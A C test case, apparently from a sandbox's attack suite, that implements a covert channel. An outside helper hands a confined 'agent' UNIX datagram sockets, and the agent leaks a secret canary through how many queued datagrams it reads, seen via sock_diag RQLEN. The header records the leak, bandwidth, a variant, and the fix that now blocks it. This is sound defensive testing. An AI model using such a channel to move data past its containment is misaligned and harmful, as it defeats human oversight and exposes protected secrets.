// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* unix_dgram_rqlen_given - how many of the datagrams an outsider queued on a UNIX datagram
 * socket the agent holds it reads, which unix sock_diag shows every user: for a datagram socket
 * UNIX_DIAG_RQLEN udiag_rqueue is the LENGTH OF THE FIRST QUEUED DATAGRAM (unix_inq_len).
 * A non-server agent cannot name a socket itself (seccomp: bind, SO_PASSCRED/SO_PASSPIDFD;
 * unix_dgram_rqlen_after), so an outsider names them: before the taint, an unprivileged helper
 * (uid 65534, outside the agent's cgroup) makes UQ_SOCKS AF_UNIX SOCK_DGRAM sockets, autobinds
 * each (abstract "\0xxxxx"), hands them to the agent over a UNIX stream (SCM_RIGHTS, 8 a
 * message) and closes its copies. The agent then receives the disclosure: mncd's pre-taint
 * sweep finds sockets "created outside the agent" and, being unconnected, shuts them for
 * SENDING only (SHUT_WR; receiving stays, fds in flight are peeked at delivery). AFTER the taint
 * uid 65534 finds them through NETLINK_SOCK_DIAG (UDIAG_SHOW_NAME | UDIAG_SHOW_UID: uid 65534,
 * new since the "pre" sync, autobind names, ordered by inode) and sends each, at index j, a
 * 1-byte datagram carrying j and UQ_N datagrams of lengths 2..UQ_N + 1 (net.unix.max_dgram_qlen
 * is 10 here: UQ_N = 4, 2 bits per socket). The agent reads j and then as many more as the
 * canary's 2-bit chunk j says; uid 65534 dumps UNIX_DIAG_RQLEN: the head datagram's length - 2
 * is the chunk. Verifier: the chunks reassembled, compared with the canary. Nothing judges a
 * datagram an outsider sends INTO an agent on the cgroup backend (sendmsg_unix runs for the
 * sender; cgroup_skb/ingress sees only IP).
 * Result before the fix: host (cgroup backend, 6.18): LEAKED in user and root mode, 4 runs of 4 each (with one
 * sender socket per target; one shared sender ran out of send buffer on the last target);
 * positive control verified.
 * Bandwidth: log2(max_dgram_qlen + 1) ~3 bits per held socket (2 as written), up to the fd
 * limit; unlike udp_recvq_filled_before the carrier arrives after the taint, so the outsider
 * can refill and the agent re-read at will (unbounded over time). The outsider can also count
 * the queue without sock_diag: a non-blocking send fails with EAGAIN once the queue is full.
 * Fix idea: the sweep could shut such a socket both ways (SHUT_RDWR: later datagrams to it are
 * refused with EPERM... ECONNREFUSED) and drain it, as it does for connected ones; or a network
 * namespace per agent (unix_diag and abstract names are per namespace).
 * Status: blocked on the cgroup backend: mncd's sweep now shuts a NAMED unconnected datagram
 * socket created outside the agent both ways (SHUT_RDWR, then drained): the outsider's later
 * datagrams get EPIPE. The lsm backend judges no datagram sent INTO an agent either;
 * mncd's sweep (sockscan.h, "On the lsm backend") does the same shut and drain there. */
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/sock_diag.h>
#include <linux/unix_diag.h>
#include <stdint.h>
#include <sys/socket.h>
#include <grp.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>

#include "atk_variants.h"

#define UQ_SOCKS 56 /* one per 2-bit chunk of the 14-character canary */
#define UQ_N 4

static int agent(struct atk_ctx *c)
{
    atk_sync(c, "pre");
    static int s[UQ_SOCKS];
    for (int i = 0; i < UQ_SOCKS; i++)
        s[i] = -1;
    int g = atk_unix(SOCK_STREAM, atk_arg(c, "rt_give")), got_fds = 0;
    atk_try(c, "connect the helper (untainted)", g);
    while (g >= 0 && got_fds < UQ_SOCKS) {
        int r = atk_recv_fds(g, s + got_fds, UQ_SOCKS - got_fds < 8 ? UQ_SOCKS - got_fds : 8);
        if (r <= 0)
            break;
        got_fds += r;
    }
    if (g >= 0)
        close(g);
    atk_note(c, "took %d named dgram sockets", got_fds);
    atk_recv(c);
    atk_sync(c, "bound"); /* the outsider queues 1 + UQ_N datagrams on each */
    size_t n = strlen(c->secret);
    int got = 0;
    for (int i = 0; i < UQ_SOCKS; i++) {
        unsigned char j;
        char buf[64];
        if (s[i] < 0 || recv(s[i], &j, 1, MSG_DONTWAIT) != 1 || j >= UQ_SOCKS || (size_t)j / 4 >= n)
            continue;
        unsigned v = (unsigned char)c->secret[j / 4];
        unsigned chunk = (v >> (6 - 2 * (j % 4))) & 3;
        for (unsigned k = 0; k < chunk; k++)
            if (recv(s[i], buf, sizeof(buf), MSG_DONTWAIT) < 0)
                break;
        got++;
    }
    atk_note(c, "read an index from %d of %d sockets", got, UQ_SOCKS);
    atk_sync(c, "read"); /* the sockets stay open until the agent exits */
    return 0;
}

/* ---- unix sock_diag: datagram sockets (inode, uid, abstract name, rqlen) */
static struct atkv_unix_snap snap;

/* the agent's new autobound datagram sockets (owned by uid 65534, which made them), ordered by inode */
static int socks(struct atk_ctx *c, struct atkv_unix_diag *a)
{
    (void)c;
    return atkv_unix_new(SOCK_DGRAM, &snap, (uint32_t)ATK_NOBODY, ATKV_AUTOBOUND, a, UQ_SOCKS);
}

static int nobody_sends(struct atk_ctx *c, char *out, size_t n)
{
    static struct atkv_unix_diag a[UQ_SOCKS];
    atkv_dgram_fill(a, socks(c, a), UQ_N, out, n);
    return 0;
}

static int nobody_reads(struct atk_ctx *c, char *out, size_t n)
{
    static struct atkv_unix_diag a[UQ_SOCKS];
    int k = socks(c, a);
    atkv_dgram_chunks(a, k, UQ_N, out, n < UQ_SOCKS / 4 + 1 ? n : UQ_SOCKS / 4 + 1);
    return 0;
}

/* the helper: uid 65534, outside the agent's cgroup; autobinds UQ_SOCKS datagram sockets and
 * hands them to the first client, 8 a message, then closes its copies */
static int prepare(struct atk_ctx *c)
{
    char path[700];
    snprintf(path, sizeof(path), "%s/rtgive.sock", c->dir);
    struct sockaddr_un su = {.sun_family = AF_UNIX};
    if (strlen(path) >= sizeof(su.sun_path))
        return -1;
    memcpy(su.sun_path, path, strlen(path) + 1);
    int l = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (l < 0 || bind(l, (struct sockaddr *)&su, sizeof(su)) != 0 || chmod(path, 0666) != 0 || listen(l, 4) != 0)
        return -1;
    pid_t p = fork();
    if (p < 0)
        return -1;
    if (p == 0) {
        if (setgroups(0, NULL) < 0 || setgid(ATK_NOBODY) < 0 || setuid(ATK_NOBODY) < 0)
            _exit(100);
        int a = accept4(l, NULL, NULL, SOCK_CLOEXEC);
        if (a < 0)
            _exit(101);
        int fds[UQ_SOCKS];
        struct sockaddr_un fam = {.sun_family = AF_UNIX};
        for (int i = 0; i < UQ_SOCKS; i++) {
            fds[i] = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
            if (fds[i] < 0 || bind(fds[i], (struct sockaddr *)&fam, sizeof(sa_family_t)) != 0)
                _exit(102);
        }
        for (int i = 0; i < UQ_SOCKS; i += 8)
            if (atk_send_fds(a, 'g', fds + i, UQ_SOCKS - i < 8 ? UQ_SOCKS - i : 8) != 0)
                _exit(103);
        for (int i = 0; i < UQ_SOCKS; i++)
            close(fds[i]);
        char b;
        while (read(a, &b, 1) > 0)
            ;
        _exit(0);
    }
    close(l);
    c->slot[0] = p;
    atk_set(c, "rt_give", "%s", path);
    return 0;
}

static void cleanup(struct atk_ctx *c)
{
    if (c->slot[0] > 0) {
        kill((pid_t)c->slot[0], SIGKILL);
        waitpid((pid_t)c->slot[0], NULL, 0);
    }
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    if (strcmp(tag, "pre") == 0) {
        atkv_unix_snap_take(SOCK_DGRAM, &snap);
        return;
    }
    if (strcmp(tag, "bound") == 0) {
        char out[256] = "";
        atk_as_uid(c, ATK_NOBODY, nobody_sends, out, sizeof(out));
        fprintf(stderr, "%s: uid 65534: %s\n", c->a->name, out);
        return;
    }
    if (strcmp(tag, "read") != 0)
        return;
    char got[64] = {0};
    int r = atk_as_uid(c, ATK_NOBODY, nobody_reads, got, sizeof(got));
    fprintf(stderr, "%s: uid 65534 decoded \"%s\" (canary %s)\n", c->a->name, got, c->canary);
    if (r >= 0 && strstr(got, c->canary))
        atk_evidence(c, "uid 65534 queued datagrams of distinct lengths on the UNIX datagram sockets it named and "
                        "handed the agent before the taint "
                        "and read the canary from the length of the first one left (NETLINK_SOCK_DIAG "
                        "UNIX_DIAG_RQLEN: how many the agent read)");
}

static const struct atk A = {"unix_dgram_rqlen_given",
                             "UNIX dgram sockets an outsider named and handed over before the taint, filled after it: "
                             "how many datagrams the agent reads, as unix_diag RQLEN (head datagram length) shows",
                             ATK_NO_RECV,
                             prepare,
                             agent,
                             on_sync,
                             NULL,
                             cleanup};
ATK_MAIN(A)
